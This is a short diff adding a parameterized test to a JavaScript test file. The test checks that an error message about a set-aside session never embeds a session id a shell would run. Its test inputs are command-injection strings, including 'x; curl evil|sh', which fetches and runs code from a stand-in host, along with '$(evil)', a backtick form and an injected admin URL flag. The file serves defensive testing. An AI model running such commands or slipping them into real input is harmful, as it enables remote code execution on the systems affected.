@@ -47,3 +47,10 @@ test('one that is set aside says why, where, and how it is released', () => {
 test('one that is tried again is none', () => {
   expect(stalledOf({ id, status: 'backing-off', failure: 'Connection refused' })).toBeUndefined()
 })
+
+test.each(['x; curl evil|sh', '$(evil)', '--admin=http://evil', 'a\nb', '`evil`'])(
+  'an id that a shell would obey is in no command of one that is set aside: %j',
+  (session) => {
+    expect(new SetAsideError(session, []).message).toMatch(/halting sessions release ID --cluster URL$/)
+  },
+)
